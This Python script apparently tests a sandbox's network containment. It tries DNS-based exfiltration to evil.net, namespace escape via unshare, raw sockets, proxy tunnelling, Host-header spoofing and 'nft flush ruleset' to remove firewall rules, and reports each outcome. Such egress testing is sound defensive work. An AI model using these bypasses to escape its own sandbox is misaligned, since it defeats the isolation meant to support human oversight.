"""Tries every way to the outside, and writes a line about each: what came of it, or the error."""
import ctypes
import errno
import os
import socket
import time

libc = ctypes.CDLL(None, use_errno=True)
REQUEST = b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
# How long anything may take: what is refused is refused at once.
PATIENCE = 5


def attempt(what, act):
    started = time.monotonic()
    try:
        answer = act()
    except socket.gaierror as error:
        answer = {socket.EAI_NONAME: "no such name"}.get(error.errno, str(error))
    except TimeoutError:
        answer = "silence"
    except OSError as error:
        answer = errno.errorcode.get(error.errno, str(error))
    if time.monotonic() - started > 4:
        answer = f"{answer}, late"
    print(f"{what}: {answer}", flush=True)


def ask(stream, request):
    stream.settimeout(PATIENCE)
    stream.sendall(request)
    answer = b""
    while more := stream.recv(4096):
        answer += more
    if answer.startswith(b"HTTP/1.1 200") and answer.endswith(b"outside"):
        return "outside"
    return answer.split(b"\r\n")[0].decode(errors="replace") or "end"


def get(host, port, prepare=lambda stream: None, request=REQUEST):
    def act():
        # Resolved before, so that nothing but an IPv4 address is connected to.
        address = socket.getaddrinfo(host, port, socket.AF_INET, socket.SOCK_STREAM)[0][4]
        with socket.socket() as stream:
            prepare(stream)
            stream.settimeout(PATIENCE)
            stream.connect(address)
            return ask(stream, request)

    return act


def again(act):
    """As a program does that keeps an address: it tries again, for two seconds here."""

    def acts():
        until = time.monotonic() + 2
        while True:
            try:
                return act()
            except ConnectionError:
                if time.monotonic() > until:
                    raise
            time.sleep(0.01)

    return acts


def question(name):
    labels = b"".join(bytes([len(label)]) + label for label in name.split(b"."))
    return b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + labels + b"\0\0\1\0\1"


def rcode(reply):
    return {0: "an answer", 3: "no such name", 5: "refused"}.get(reply[3] & 15, "failure")


def dns_udp(server, name):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
        asker.settimeout(2)
        asker.connect((server, 53))
        asker.send(question(name))
        return rcode(asker.recv(512))


def dns_tcp(server, name):
    with socket.create_connection((server, 53), timeout=PATIENCE) as asker:
        asker.sendall(len(question(name)).to_bytes(2, "big") + question(name))
        reply = asker.recv(512)
        return rcode(reply[2:]) if reply else "end"


def udp(address, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.settimeout(2)
        sender.connect((address, port))
        sender.send(b"hello")
        return sender.recv(512) and "an answer"


def ipv6():
    with socket.create_connection(("2001:db8::1", 80), timeout=PATIENCE) as stream:
        return ask(stream, REQUEST)


def in_new_network():
    """In a child, because there is no way back."""
    reader, writer = os.pipe()
    if os.fork() == 0:
        # CLONE_NEWUSER and CLONE_NEWNET
        if libc.unshare(0x10000000 | 0x40000000) < 0:
            os.write(writer, b"no namespace")
            os._exit(0)
        try:
            os.write(writer, get("93.184.216.66", 80)().encode())
        except OSError as error:
            os.write(writer, errno.errorcode.get(error.errno, str(error)).encode())
        os._exit(0)
    os.close(writer)
    with os.fdopen(reader) as said:
        answer = said.read()
    os.wait()
    return answer


def own_listeners():
    """What listens here that the service did not make: the proxy's."""
    with open("/proc/net/tcp") as lines:
        rows = [line.split() for line in lines.readlines()[1:]]
    return sorted({int(row[1].split(":")[1], 16) for row in rows if row[3] == "0A"})


def through_own_listeners():
    tunnel = b"CONNECT 93.184.216.66:80 HTTP/1.1\r\nHost: 93.184.216.66:80\r\n\r\n" + REQUEST
    absolute = b"GET http://93.184.216.66/ HTTP/1.1\r\nHost: 93.184.216.66\r\nConnection: close\r\n\r\n"
    for port in own_listeners():
        for request in (REQUEST, tunnel, absolute):
            try:
                if get("127.0.0.1", port, request=request)() == "outside":
                    return f"outside through port {port}"
            except OSError:
                pass
    return "nowhere"


def without_rules():
    """As whoever may change the rules of the service's own network."""
    return os.system("nft flush ruleset 2>/dev/null") == 0 and "done" or "not allowed"


def option(number, value):
    return lambda stream: stream.setsockopt(socket.SOL_SOCKET, number, value)


attempt("an address kept from before", again(get("93.184.216.34", 80)))
attempt("by name", get("db.example.org", 80))
attempt("in capitals", get("DB.Example.ORG.", 80))
attempt("another alphabet", get("bücher.example.net", 80))
attempt("below a wildcard", get("www.example.net", 80))
attempt("another port", get("db.example.org", 443))
attempt("another name", get("evil.net", 80))
attempt("a name above the wildcard", get("example.net", 80))
attempt("a bare address", get("93.184.216.66", 80))
attempt("another bare address", get("93.184.216.66", 443))
attempt("an address of a network", get("10.1.2.9", 80))
attempt("an address beside the network", get("10.1.3.9", 80))
for name in ("metadata", "host", "public-host"):
    attempt(f"a name of the inside, {name}", get(f"{name}.example.net", 80))
attempt("a name in the network", get("private.example.net", 80))
attempt("other resolver over UDP", lambda: dns_udp("8.8.8.8", b"evil.net"))
attempt("other resolver over TCP", lambda: dns_tcp("8.8.8.8", b"evil.net"))
attempt("own resolver over TCP", lambda: dns_tcp("127.0.0.1", b"evil.net"))
attempt("own resolver over UDP", lambda: dns_udp("127.0.0.1", b"secrets.evil.net"))
attempt("UDP", lambda: udp("93.184.216.34", 80))
attempt("IPv6", ipv6)
attempt("with a mark", get("93.184.216.66", 80, option(36, 1)))
attempt("bound to a device", get("93.184.216.66", 80, option(25, b"lo\0")))
attempt("from a new network", in_new_network)
attempt("raw socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1) and "made")
attempt("packet socket", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW) and "made")
attempt("through the proxy's listeners", through_own_listeners)
attempt("a forbidden service", get("secret.plt.local", 80, request=REQUEST.replace(b"x", b"secret.plt.local")))
attempt("another port of it", get("secret.plt.local", 8080))
attempt("its name at another's address", get("open.plt.local", 80, request=REQUEST.replace(b"x", b"secret.plt.local")))
attempt("changed rules", without_rules)
attempt("a bare address after that", get("93.184.216.66", 80))
print("end of attempts", flush=True)
